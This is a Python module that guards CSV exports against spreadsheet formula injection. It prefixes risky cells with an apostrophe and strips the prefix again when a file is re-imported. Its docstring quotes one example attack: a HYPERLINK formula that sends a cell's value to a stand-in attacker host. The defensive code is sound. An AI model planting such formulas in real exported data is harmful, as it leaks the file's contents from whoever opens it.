"""CSV files the project writes are opened by people in spreadsheets.

A cell starting with = + - @ (or a tab or carriage return, which some spreadsheets skip
before reading one of those) is run as a formula: a volunteer's name such as
``=HYPERLINK("https://evil.example/?"&A1, "open")`` would act in the organiser's
spreadsheet (CSV injection, OWASP). Every CSV writer goes through ``csv_writer``, which
prefixes such cells with an apostrophe so they read as text; ``restored`` takes the
apostrophe off again when such a file is read back (a fixed rejected-rows file re-imported).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_MARK = "'"


def inert(cell: Any) -> Any:
    """The cell as a spreadsheet will read as text; numbers and other values are left as they are."""
    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
        return _MARK + cell
    return cell


def restored(cell: str) -> str:
    """A cell as it was before ``inert`` (a cell it did not change comes back unchanged)."""
    if cell.startswith(_MARK) and cell[1:].startswith(FORMULA_STARTS):
        return cell[1:]
    return cell


class InertCsvWriter:
    """csv.writer whose text cells are made inert."""

    def __init__(self, handle: IO[str], **format_params: Any) -> None:
        self._writer = csv.writer(handle, **format_params)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([inert(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(handle: IO[str], **format_params: Any) -> InertCsvWriter:
    return InertCsvWriter(handle, **format_params)
